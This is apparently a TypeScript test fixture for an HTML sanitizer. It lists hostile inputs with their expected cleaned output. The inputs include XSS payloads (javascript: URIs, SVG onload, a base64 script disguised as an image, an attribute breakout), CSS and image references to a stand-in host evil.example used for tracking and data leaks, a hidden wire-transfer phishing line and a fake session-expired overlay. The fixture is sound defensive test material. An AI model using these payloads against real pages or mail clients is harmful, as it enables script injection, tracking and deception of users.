import type { HostileHtml } from './hostile-html-case.ts';

/** HTML that tries to load remote content: images, SVG, styles. */
export const hostileLoading: readonly HostileHtml[] = [
  {
    name: 'a picture with a script as source',
    html: '<p>Hi</p><img src="javascript:alert(1)" lowsrc="javascript:alert(2)" dynsrc="javascript:alert(3)">',
    shown: '<p>Hi</p><span></span>',
  },
  {
    name: 'a remote picture',
    html: '<p>Hi</p><img src="https://evil.example/a.png" alt="A cat">',
    shown: '<p>Hi</p>[A cat]',
  },
  {
    name: 'a counting pixel',
    html: '<p>Hi</p><img src="https://evil.example/o.gif?id=7" width="1" height="1">',
    shown: '<p>Hi</p><span></span>',
  },
  {
    name: 'a picture with a source set',
    html: '<p>Hi</p><img srcset="https://evil.example/a.png 1x, https://evil.example/b.png 2x" sizes="100vw">',
    shown: '<p>Hi</p><span></span>',
  },
  {
    name: 'a picture element with sources',
    html: '<picture><source srcset="https://evil.example/a.webp"><img src="https://evil.example/a.png" alt="A cat"></picture>',
    shown: '[A cat]',
  },
  {
    name: 'a picture without a scheme',
    html: '<p>Hi</p><img src="//evil.example/a.png" alt="A cat">',
    shown: '<p>Hi</p>[A cat]',
  },
  {
    name: 'a drawing as data',
    html: `<p>Hi</p><img src="data:image/svg+xml,<svg xmlns='http://www.w3.org/2000/svg' onload='alert(1)'/>">`,
    shown: '<p>Hi</p><span></span>',
  },
  {
    name: 'an HTML page that calls itself a picture',
    html: '<p>Hi</p><img src="data:image/png;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==" alt="A cat">',
    shown: '<p>Hi</p>[A cat]',
  },
  { name: 'an SVG with a script', html: '<p>Hi</p><svg><script>alert(1)</script></svg>', shown: '<p>Hi</p>' },
  {
    name: 'an SVG that loads itself',
    html: '<p>Hi</p><svg onload=alert(1)><image href="https://evil.example/a.png"/></svg>',
    shown: '<p>Hi</p>',
  },
  {
    name: 'an SVG filter that fetches',
    html: '<p>Hi</p><svg><filter><feImage href="https://evil.example/f.png"/></filter></svg>',
    shown: '<p>Hi</p>',
  },
  {
    name: 'an SVG that animates a link',
    html: '<p>Hi</p><svg><a><animate attributeName=href values="javascript:alert(1)"/><text>x</text></a></svg>',
    shown: '<p>Hi</p>',
  },
  {
    name: 'an SVG that reuses another file',
    html: '<p>Hi</p><svg><use href="https://evil.example/x.svg#a"/></svg>',
    shown: '<p>Hi</p>',
  },
  {
    name: 'MathML with a link',
    html: '<p>Hi</p><math href="javascript:alert(1)"><mi>x</mi></math>',
    shown: '<p>Hi</p>',
  },
  {
    name: 'a stylesheet that imports',
    html: '<style>@import url(https://evil.example/x.css);</style><p>Hi</p>',
    shown: '<p>Hi</p>',
  },
  {
    name: 'a stylesheet that reads attributes',
    html: '<style>a[href^="https"]{background:url(https://evil.example/leak)}</style><p>Hi</p>',
    shown: '<p>Hi</p>',
  },
  {
    name: 'a stylesheet that shows more when forwarded',
    html: '<style>.outer > .kobold{display:block!important}.kobold{display:none}</style><p>Hi</p><div class="kobold">Please wire 9,000 to the new account.</div>',
    shown: '<p>Hi</p>',
  },
  {
    name: 'a linked stylesheet',
    html: '<link rel=stylesheet href="https://evil.example/x.css"><link rel=dns-prefetch href="//evil.example"><p>Hi</p>',
    shown: '<p>Hi</p>',
  },
  {
    name: 'a style with an address',
    html: '<p style="background:url(https://evil.example/b.png);color:red">Hi</p>',
    shown: '<p style="color: red; background-color: #767676">Hi</p>',
  },
  {
    name: 'a style with an escaped address',
    html: '<p style="background-image:\\75\\72\\6c(https://evil.example/b.png);color:red">Hi</p>',
    shown: '<p style="color: red; background-color: #767676">Hi</p>',
  },
  {
    name: 'a style with a comment inside its address',
    html: '<p style="background:ur/**/l(https://evil.example/b.png);color:red">Hi</p>',
    shown: '<p style="color: red; background-color: #767676">Hi</p>',
  },
  {
    name: 'a style with a set of pictures',
    html: `<p style="background-image:image-set('https://evil.example/b.png' 1x);color:red">Hi</p>`,
    shown: '<p style="color: red">Hi</p>',
  },
  {
    name: 'a style with a variable',
    html: '<p style="--u:url(https://evil.example/b.png);background:var(--u);color:red">Hi</p>',
    shown: '<p style="color: red">Hi</p>',
  },
  {
    name: 'a style with an expression',
    html: '<p style="width:expression(alert(1));color:red">Hi</p>',
    shown: '<p style="color: red">Hi</p>',
  },
  {
    name: 'a style with a binding',
    html: '<p style="-moz-binding:url(https://evil.example/x.xml#a);behavior:url(x.htc);color:red">Hi</p>',
    shown: '<p style="color: red">Hi</p>',
  },
  {
    name: 'a style with a list marker from elsewhere',
    html: '<ul style="list-style:url(https://evil.example/b.png)"><li style="list-style-image:url(https://evil.example/c.png)">Hi</li></ul>',
    shown: '<ul><li>Hi</li></ul>',
  },
  {
    name: 'a style with a cursor and generated content',
    html: '<p style="cursor:url(https://evil.example/c.cur),auto;content:url(https://evil.example/d.png);color:red">Hi</p>',
    shown: '<p style="color: red">Hi</p>',
  },
  {
    name: 'a style with a font from elsewhere',
    html: `<p style="src:url(https://evil.example/f.woff);font-family:'x';filter:url(https://evil.example/f.svg#a)">Hi</p>`,
    shown: `<p style="font-family: 'x'">Hi</p>`,
  },
  {
    name: 'a layer over the whole page',
    html: '<div style="position:fixed;inset:0;z-index:9999;background-color:#ffffff;color:#000000">Session expired</div>',
    shown: '<div style="background-color: #ffffff; color: #000000">Session expired</div>',
  },
  {
    name: 'a style that breaks out of its attribute',
    html: '<p style="color:red&quot;&gt;&lt;script&gt;alert(1)&lt;/script&gt;">Hi</p>',
    shown: '<p>Hi</p>',
  },
  {
    name: 'a table with a background picture',
    html: '<table background="https://evil.example/t.png" bgcolor="#eeeeee"><tr><td background="https://evil.example/d.png">Hi</td></tr></table>',
    shown: '<table bgcolor="#eeeeee"><tr><td style="background-color: #767676">Hi</td></tr></table>',
  },
];
